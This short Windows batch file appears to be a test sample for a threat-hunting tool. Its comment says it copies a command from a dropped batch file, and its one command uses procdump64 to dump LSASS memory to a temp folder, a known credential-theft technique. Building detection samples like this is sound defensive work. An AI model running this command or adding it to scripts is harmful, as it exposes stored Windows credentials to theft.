@echo off
rem exhunt test sample: the command of an LSASS dump, as in a dropped batch file
procdump64.exe -accepteula -ma lsass.exe C:\windows\temp\lsass
